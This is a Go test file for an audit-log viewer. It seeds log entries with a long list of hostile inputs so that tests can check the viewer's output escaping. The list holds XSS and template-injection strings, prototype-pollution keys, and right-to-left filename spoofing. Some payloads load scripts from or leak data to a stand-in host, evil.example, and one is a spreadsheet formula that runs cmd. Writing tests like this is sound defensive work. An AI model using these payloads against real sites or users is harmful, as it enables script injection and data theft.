package viewer_test

import (
	"context"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/daybookdev/daybook"
)

const hostile = "hostile"

// payloads are what people try in fields that a page will show: markup, scripts, templates, links,
// encodings, and characters that hide or turn text.
var payloads = sequence([]string{
	`<script>pwned=1</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<script type=module>import"//evil.example"</script>`,
	`<img src=x onerror=pwned=1>`, `<img src="//evil.example/p.png">`, `<svg onload=pwned=1>`, `<svg><script>pwned=1</script></svg>`, `<svg><animate onbegin=pwned=1 attributeName=x>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>">`, `<iframe src=javascript:parent.pwned=1>`, `<object data=javascript:pwned=1>`, `<embed src=//evil.example>`,
	`<a href=javascript:pwned=1>x</a>`, `javascript:pwned=1`, `JaVaScRiPt:pwned=1`, `data:text/html,<script>pwned=1</script>`, `https://evil.example/?leak=`, `//evil.example/x`,
	`<style>@import'//evil.example'</style>`, `<link rel=stylesheet href=//evil.example>`, `<base href=//evil.example>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<form action=//evil.example><button>ok</button></form>`, `<input autofocus onfocus=pwned=1>`, `<details open ontoggle=pwned=1>`, `<video><source onerror=pwned=1>`, `<body onload=pwned=1>`, `<math><mtext><script>pwned=1</script>`,
	`<template><script>pwned=1</script></template>`, `<noscript><p title="</noscript><img src=x onerror=pwned=1>">`, `<!--><img src=x onerror=pwned=1>-->`, `<![CDATA[<script>pwned=1</script>]]>`,
	`{{constructor.constructor('pwned=1')()}}`, `${pwned=1}`, "`${pwned=1}`", `#{pwned=1}`, `<%= pwned=1 %>`, `[[${pwned=1}]]`, `&lt;script&gt;pwned=1&lt;/script&gt;`, `\u003cscript\u003epwned=1\u003c/script\u003e`, `%3Cscript%3Epwned=1%3C/script%3E`,
	`=HYPERLINK("https://evil.example","x")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `](javascript:pwned=1) [x](javascript:pwned=1)`, `__proto__`, `constructor`, "\u202Etxt.exe", "a\u200Bb\u2066c\u2069", "line\nbreak\r\ttab", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
})

// sequence adds to each payload what breaks it out of a context.
func sequence(base []string) []string {
	var all []string
	for _, p := range base {
		all = append(all, p, `">`+p, `'-`+p+`-'`, `</textarea></title></style>`+p)
	}
	return all
}

// seedHostile puts each payload into every field that takes free text.
func seedHostile(ctx context.Context, t testing.TB, store daybook.Appender, now time.Time) {
	t.Helper()
	var batch []daybook.Entry
	for i, p := range payloads {
		batch = append(batch, daybook.Entry{
			ID: daybook.NewIDAt(now.Add(-time.Duration(len(payloads)-i) * time.Minute)), OrganizationID: hostile,
			Action: daybook.Update, ResourceType: "document", ResourceID: p, UserID: p, RequestID: p, UserAgent: p,
			Outcome: []daybook.Outcome{daybook.Success, daybook.Failure, daybook.Denied}[i%3], ActorType: daybook.ActorUser, IPAddress: netip.MustParseAddr("192.0.2.1"),
			RecordedBy: p,
			Details: daybook.Details{
				"name": p, "error_message": p, p: p, "list": []any{p, map[string]any{p: p, "deep": []any{p}}},
				"__proto__": map[string]any{"polluted": p}, "constructor": map[string]any{"prototype": map[string]any{"polluted": p}},
				"changes": map[string]any{"title": map[string]any{"old": p, "new": p + " and more words " + p}, p: map[string]any{"old": []any{p}, "new": []any{p, "x"}}, "obj": map[string]any{"old": map[string]any{p: p}, "new": nil}},
			},
		})
	}
	batch = append(batch, daybook.Entry{ID: daybook.NewIDAt(now.Add(-time.Second)), OrganizationID: hostile, Action: daybook.Create, ResourceType: "document", ResourceID: "invoice\u202Efdp.exe",
		UserID: "reorder", ActorType: daybook.ActorUser, Details: daybook.Details{"name": "safe\u202Egnp.js", "note": strings.Repeat("long ", 10_000)}})
	if err := store.Append(ctx, batch...); err != nil {
		t.Fatalf("seed: %v", err)
	}
}
